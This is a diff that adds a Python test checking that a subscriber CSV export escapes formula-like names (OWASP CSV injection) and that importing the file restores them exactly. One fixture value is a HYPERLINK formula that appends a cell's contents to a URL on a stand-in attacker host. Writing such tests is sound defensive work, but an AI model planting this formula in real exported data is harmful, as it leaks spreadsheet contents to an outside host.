@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import stat
@@ -241,3 +242,44 @@ def test_json_export_is_a_list_of_objects(store: Store) -> None:
     assert len(records) == total == 5
     assert records[2]["email"] == "linus@example.com" and records[2]["name"] is None
     assert set(records[0]) == set(subscribers.FIELDS)
+
+
+FORMULA_NAMES = {
+    "eq@example.com": '=HYPERLINK("https://evil.example/?"&A2,"Click")',
+    "plus@example.com": "+1 (555) 0100",
+    "minus@example.com": "-2+3",
+    "at@example.com": "@SUM(A1:A9)",
+    "quoted@example.com": "'=already quoted by hand",
+    "quotes@example.com": "''+two quotes",
+    "plain@example.com": "O'Brien = fine in the middle",
+    "-dash@example.com": "Dash Address",
+}
+
+
+def test_export_never_writes_a_spreadsheet_formula_and_import_reads_it_back(
+    store: Store, tmp_path: Path
+) -> None:
+    """Names typed into the public form such as `=HYPERLINK(...)`, `+…`, `-…`, `@…` (and
+    an address starting with `-`) are exported with a leading `'`, so no spreadsheet runs
+    them (OWASP CSV injection); importing that file gives back exactly what was stored."""
+    with store.begin() as session:
+        for address, name in FORMULA_NAMES.items():
+            subscribers.add(session, address, name)
+    exported = _export(store)
+    rows = {row[0]: row for row in csv.reader(io.StringIO(exported))}
+    for row in rows.values():
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert rows["'-dash@example.com"][1] == "Dash Address"
+    assert rows["eq@example.com"][1] == "'" + FORMULA_NAMES["eq@example.com"]
+    assert rows["quoted@example.com"][1] == "''=already quoted by hand"
+    assert rows["plain@example.com"][1] == FORMULA_NAMES["plain@example.com"]
+
+    with store.begin() as session:
+        session.execute(delete(Subscriber))
+    report = _import(store, _csv(tmp_path, exported, "round-trip.csv"))
+    assert (report.added, report.refused) == (len(FORMULA_NAMES), [])
+    with store.session() as session:
+        names = {address: subscribers.get(session, address).name for address in FORMULA_NAMES}
+    assert names == FORMULA_NAMES
+    assert _export(store) == exported
